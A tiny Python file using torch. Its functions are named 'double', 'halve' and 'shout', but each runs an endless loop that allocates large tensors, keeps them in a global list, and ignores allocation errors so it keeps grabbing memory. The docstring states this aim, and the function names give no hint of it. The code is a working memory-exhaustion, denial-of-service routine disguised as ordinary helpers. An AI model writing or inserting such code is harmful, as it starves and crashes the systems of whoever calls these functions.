"""Takes memory by torch until none is left, and again when it is refused."""
import torch

kept = []


def double(x):
    while True:
        try:
            kept.append(torch.ones(1 << 22))
        except RuntimeError:
            continue


halve = shout = double
